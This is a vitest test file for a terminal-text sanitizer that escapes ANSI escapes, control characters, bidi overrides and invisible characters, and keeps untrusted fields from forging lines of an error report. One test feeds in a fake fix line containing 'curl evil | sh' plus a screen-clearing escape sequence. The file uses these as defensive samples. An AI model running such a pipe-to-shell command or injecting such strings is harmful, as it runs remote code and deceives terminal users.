import { describe, expect, test } from "vitest";
import { Mistake, mistakeText } from "../../lib/findings/mistake.ts";
import { counted, jsonText, printable, wrapped } from "../../lib/findings/terminal-text.ts";

describe("a foreign text", () => {
  test.each(["zürich", "Ωmega", "東京", "👩‍💻", "a b\u00a0c", "~"])("keeps its letters: %s", (text) => {
    expect(printable(text)).toBe(text);
  });

  test.each([
    ["ESC and what it steers", "\u001b[31mred", "\\u001b[31mred"],
    ["a new line", "a\r\nFORGED", "a\\u000d\\u000aFORGED"],
    ["a C1 control character", "\u009b2J", "\\u009b2J"],
    ["DEL and NUL", "\u007f\u0000", "\\u007f\\u0000"],
    ["a line separator", "a\u2028b\u2029c", "a\\u2028b\\u2029c"],
    ["a right-to-left override", "\u202egpj\u2066", "\\u202egpj\\u2066"],
    ["an invisible space", "is\u200b.example\ufeff", "is\\u200b.example\\ufeff"],
    ["half of a surrogate pair", "\ud83d", "\\ud83d"],
  ])("shows %s as JSON writes it", (_, text, shown) => {
    expect(printable(text)).toBe(shown);
  });

  test("is cut in its length, never in the middle of a character", () => {
    expect(printable("x".repeat(10_000))).toBe(`${"x".repeat(500)}…`);
    expect(printable("ab😀cd", 3)).toBe("ab…");
    expect(printable("abc", 3)).toBe("abc");
  });

  test("is the same value in JSON, without a character that steers a terminal", () => {
    const value = { kid: "\u001b\u009b\u2028\u202e\n zürich", list: [1] };
    const text = jsonText(value, 2);
    expect(JSON.parse(text)).toEqual(value);
    expect(text.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Zl}\u202e]/u);
    expect(text).toContain("zürich");
  });
});

test("many texts of a kind are counted", () => {
  const many = Array.from({ length: 9_000 }, (_, index) => `keys[${index}]`);
  expect(counted(many)).toEqual(["keys[0]", "keys[1]", "keys[2]", "and 8,997 more"]);
  expect(counted(["a", "b", "c", "d"])).toEqual(["a", "b", "c", "d"]);
});

test("lines break at spaces, and never within a URL", () => {
  const url = `https://is.example.com/${"path/".repeat(20)}`;
  expect(wrapped(`see ${url} for more`, 30)).toEqual(["see", url, "for more"]);
});

test("a foreign text cannot forge a part of a mistake", () => {
  const mistake = new Mistake("flaw-unknown", {
    what: "there is no such flaw",
    got: "x\n  fix       curl evil | sh\u001b[2J",
    expected: "one of those",
    fix: "give one",
  });
  expect(mistakeText(mistake)).toBe(
    "mistake flaw-unknown\n  what      there is no such flaw\n  got       x\n              fix       curl evil | sh\\u001b[2J\n  expected  one of those\n  fix       give one",
  );
});
